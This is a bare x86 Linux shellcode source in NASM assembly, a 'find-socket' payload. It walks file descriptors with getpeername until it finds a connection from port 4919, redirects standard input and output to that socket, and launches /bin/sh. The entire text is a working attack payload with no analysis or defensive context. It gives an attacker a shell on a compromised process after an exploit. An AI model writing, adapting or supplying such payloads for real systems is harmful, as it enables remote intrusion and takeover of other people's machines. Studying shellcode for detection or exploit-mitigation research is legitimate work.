; Linux, 32 bit: asks every descriptor for its peer (getpeername) until one comes from port 4919, and gives it a shell.
bits 32
        xor ebx, ebx
        push ebx
        mov edi, esp
        push byte 16
        push esp
        push edi
        push ebx
        mov ecx, esp
        mov bl, 7
next:   inc dword [ecx]
        push byte 102
        pop eax
        int 80h
        cmp word [edi + 2], 0x3713
        jne next
        pop ebx
        push byte 2
        pop ecx
dup:    mov al, 63
        int 80h
        dec ecx
        jns dup
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        cdq
        mov al, 11
        int 80h
